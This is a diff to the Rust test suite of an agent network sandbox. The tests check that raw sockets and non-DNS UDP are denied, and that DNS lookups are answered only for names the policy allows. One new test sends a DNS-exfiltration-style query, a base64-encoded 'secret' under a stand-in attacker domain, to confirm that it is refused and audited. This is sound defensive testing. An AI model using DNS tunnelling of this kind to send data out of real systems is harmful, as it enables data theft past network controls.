@@ -330,7 +330,7 @@ fn raw_sockets_and_udp_are_refused_and_recorded() {
     let said = site.python(
         "import socket
 for name, make in [('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
-                   ('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('9.9.9.9', 53)))]:
+                   ('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('9.9.9.9', 443)))]:
     try:
         make(); print(name, 'allowed')
     except OSError as e:
@@ -342,7 +342,8 @@ for name, make in [('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW
     assert_eq!(raw["outcome"], "deny", "{raw}");
     assert_eq!(raw["target"]["type"], 3, "{raw}");
     by(&raw, "python3");
-    let udp = site.record_for("deny", "9.9.9.9", 53);
+    // UDP other than DNS (here QUIC's port) goes nowhere.
+    let udp = site.record_for("deny", "9.9.9.9", 443);
     assert_eq!(udp["target"]["protocol"], "udp", "{udp}");
     by(&udp, "python3");
 }
@@ -522,4 +523,40 @@ fn warden_run_without_a_gateway_says_what_to_do() {
         .expect("warden run runs");
     assert!(!out.status.success());
     assert!(text(&out).contains("may not run as root"), "{}", text(&out));
+}
+
+#[test]
+fn lookups_are_answered_only_for_names_policy_lets_the_agent_reach() {
+    let site = site();
+    // A resolver's query, sent to a public DNS server: the kernel hands it to the instance's
+    // responder, and the answer comes back as if from the server asked.
+    let said = site.python(
+        "import socket, struct
+def query(name):
+    packet = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
+    packet += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'
+    packet += struct.pack('>HH', 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(packet, ('8.8.8.8', 53))
+    data, source = s.recvfrom(4096)
+    rcode, answers = struct.unpack('>H', data[2:4])[0] & 0xf, struct.unpack('>H', data[6:8])[0]
+    print(name, 'rcode', rcode, 'answers', answers, 'from', source, 'loopback', b'\\x7f\\x00\\x00\\x01' in data[12:])
+query('localhost')
+query('c2VjcmV0.exfil.attacker.example')",
+    );
+    assert!(
+        said.contains("localhost rcode 0 answers 1 from ('8.8.8.8', 53) loopback True"),
+        "{said}"
+    );
+    assert!(
+        said.contains("c2VjcmV0.exfil.attacker.example rcode 5 answers 0"),
+        "{said}"
+    );
+    let refused = recorded(&site.audit(), |r| r["action"] == "dns.lookup");
+    assert_eq!(refused["outcome"], "deny", "{refused}");
+    assert_eq!(
+        refused["target"]["name"], "c2vjcmv0.exfil.attacker.example",
+        "{refused}"
+    );
 }
